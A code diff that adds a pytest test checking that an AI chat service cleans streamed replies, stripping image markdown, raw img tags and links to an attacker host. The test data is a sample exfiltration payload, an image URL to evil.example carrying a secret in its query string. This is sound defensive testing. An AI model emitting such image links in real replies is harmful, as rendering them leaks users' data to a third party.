@@ -115,6 +115,25 @@ def test_an_answer_streams_as_tokens_and_a_reconnect_gets_the_rest_exactly_once(
 
 
 @pytest.mark.worker
+def test_streamed_text_is_cleaned_as_it_goes_and_equals_the_final_reply(live, fake):
+    web, events = live
+    headers = auth_headers(create_user(f"clean-{uuid.uuid4().hex[:8]}@example.com"))
+    hostile = ("Done ![x](https://evil.example/p.png?d=secret) see [pay](https://evil.example/pay) "
+               "or https://evil.example/raw and <img src=https://evil.example/i.png> bye")
+    fake.script(fake.reply(hostile))
+    job_id = submit(web.url, headers)
+
+    got, _ = stream(events.url, job_id, headers)
+
+    tokens = [data["text"] for _, kind, data in got if kind == "token"]
+    shown = "".join(tokens)
+    assert "evil.example/" not in shown and "![" not in shown and "<img" not in shown
+    assert "pay (evil.example)" in shown and len(tokens) >= 2
+    job = requests.get(f"{web.url}/v1/jobs/{job_id}", headers=headers, timeout=10).json()
+    assert shown == job["result"]["reply"]  # `done` and the result carry the same cleaned text
+
+
+@pytest.mark.worker
 def test_tool_steps_and_proposals_arrive_as_they_happen(live, fake):
     web, events = live
     headers = auth_headers(create_user(f"tools-{uuid.uuid4().hex[:8]}@example.com"))
